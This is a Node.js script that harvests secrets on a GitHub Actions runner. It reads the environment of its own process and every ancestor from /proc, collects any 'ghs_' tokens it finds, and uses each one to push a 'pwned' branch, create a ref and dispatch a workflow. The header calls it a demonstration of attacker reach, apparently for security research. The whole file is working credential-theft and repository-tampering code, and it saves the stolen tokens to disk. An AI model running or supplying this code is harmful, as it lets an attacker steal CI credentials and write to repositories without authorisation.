// What an attacker's code can see on a runner: its own environment and that of every ancestor process (read from
// /proc/<pid>/environ up the parent chain, as `cat /proc/$PPID/environ` would), and what the job's token found there
// lets it write. Usage: node env-walk.mjs <out.json>. Writes { chain: [{ pid, cmd, env }], tries: [...] }.
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';

const read = (p) => { try { return readFileSync(p); } catch { return undefined; } };
const chain = [];
for (let pid = process.pid; pid > 1 && chain.length < 12; ) {
  const environ = read(`/proc/${pid}/environ`);
  const env = environ ? Object.fromEntries(environ.toString('utf8').split('\0').filter(Boolean).map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)])) : {};
  const cmd = (read(`/proc/${pid}/cmdline`) ?? Buffer.alloc(0)).toString('utf8').split('\0').filter(Boolean).join(' ');
  chain.push({ pid, cmd, env });
  const stat = read(`/proc/${pid}/stat`)?.toString('utf8') ?? '';
  pid = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
}
// Every token found anywhere up the chain, tried for a write: a branch pushed over git, a REST ref and a dispatch.
const all = Object.assign({}, ...chain.map((c) => c.env).reverse());
const tokens = [...new Set(chain.flatMap((c) => Object.values(c.env)).filter((v) => /^ghs_\w+$/.test(v)))];
const tries = [];
const server = all.GITHUB_SERVER_URL;
const repo = all.GITHUB_REPOSITORY;
const api = all.GITHUB_API_URL;
for (const token of tokens) {
  if (!server || !repo) break;
  const header = `AUTHORIZATION: basic ${Buffer.from(`x-access-token:${token}`).toString('base64')}`;
  let push;
  try {
    execFileSync('git', ['-c', `http.extraheader=${header}`, 'push', '--quiet', `${server}/${repo}.git`, 'HEAD:refs/heads/pwned'], { stdio: 'pipe' });
    push = 'pushed';
  } catch (e) {
    push = `refused: ${String(e.stderr ?? e.message).trim().split('\n')[0]}`;
  }
  const rest = async (path, body) => (await fetch(`${api}/repos/${repo}${path}`, { method: 'POST', headers: { authorization: `token ${token}`, 'content-type': 'application/json', accept: 'application/vnd.github+json' }, body: JSON.stringify(body) })).status;
  const head = execFileSync('git', ['rev-parse', 'HEAD'], { encoding: 'utf8' }).trim();
  tries.push({ token, push, ref: await rest('/git/refs', { ref: 'refs/heads/pwned-rest', sha: head }), dispatch: await rest('/actions/workflows/uet.yml/dispatches', { ref: 'main', inputs: {} }) });
}
writeFileSync(process.argv[2], JSON.stringify({ chain, tries }, null, 1));
